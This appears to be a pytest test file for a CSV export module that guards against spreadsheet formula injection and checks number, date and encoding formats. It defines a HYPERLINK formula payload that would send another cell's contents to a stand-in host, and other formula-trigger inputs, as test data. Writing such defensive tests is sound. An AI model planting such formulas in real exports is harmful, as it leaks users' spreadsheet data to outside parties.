from __future__ import annotations

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest

from revopsweb.csv_export import cell, csv_response, write_csv

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A2,"Open")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Acme = good", "Acme = good"),
        ("Zoë Müller", "Zoë Müller"),
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_would_evaluate_is_prefixed(text, written):
    assert cell(text) == written


@pytest.mark.parametrize(
    ("number", "written"),
    [
        (Decimal("-18976.2399999999"), "-18976.24"),
        (Decimal("1E+3"), "1000.00"),
        (Decimal("-120"), "-120.00"),
        (Decimal("0.005"), "0.01"),
        (-18976.2399999999, "-18976.24"),
        (0.1 + 0.2, "0.30"),
        (-42, "-42"),
    ],
)
def test_numbers_are_exact_decimals_and_never_prefixed_even_when_negative(number, written):
    assert cell(number) == written


def test_a_datetime_is_written_in_the_company_time_zone(settings):
    settings.TIME_ZONE = "America/New_York"
    # 02:30 UTC on the 29th is 21:30 on the 28th in New York.
    assert cell(dt.datetime(2026, 11, 29, 2, 30, tzinfo=dt.UTC)) == "2026-11-28 21:30:00"


def test_dates_empty_values_and_booleans():
    assert [cell(dt.date(2026, 1, 5)), cell(None), cell(True), cell(False)] == [
        "2026-01-05",
        "",
        "yes",
        "no",
    ]


def test_a_type_without_a_rule_is_refused():
    with pytest.raises(TypeError):
        cell(object())  # type: ignore[arg-type]


def test_the_file_starts_with_a_bom_then_the_header():
    stream = io.StringIO()
    write_csv(stream, ["name", "mrr"], [["Zoë", Decimal("5.5")], ["=1+1", Decimal("-3")]])
    assert stream.getvalue() == "\ufeffname,mrr\r\nZoë,5.50\r\n'=1+1,-3.00\r\n"


def test_the_response_is_a_utf8_attachment():
    response = csv_response(filename="x.csv", header=["a"], rows=[["é"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.content == "\ufeffa\r\né\r\n".encode()


def test_no_module_writes_a_csv_response_of_its_own():
    # Every export goes through this writer; a new csv.writer elsewhere would skip its rules.
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for app in ("accounts", "billing", "leads", "revopsweb")
        for path in (root / app).rglob("*.py")
        if "tests" not in path.parts
        and path.name != "csv_export.py"
        and re.search(r"csv\.(writer|DictWriter)\(|text/csv", path.read_text())
    ]
    assert offenders == []
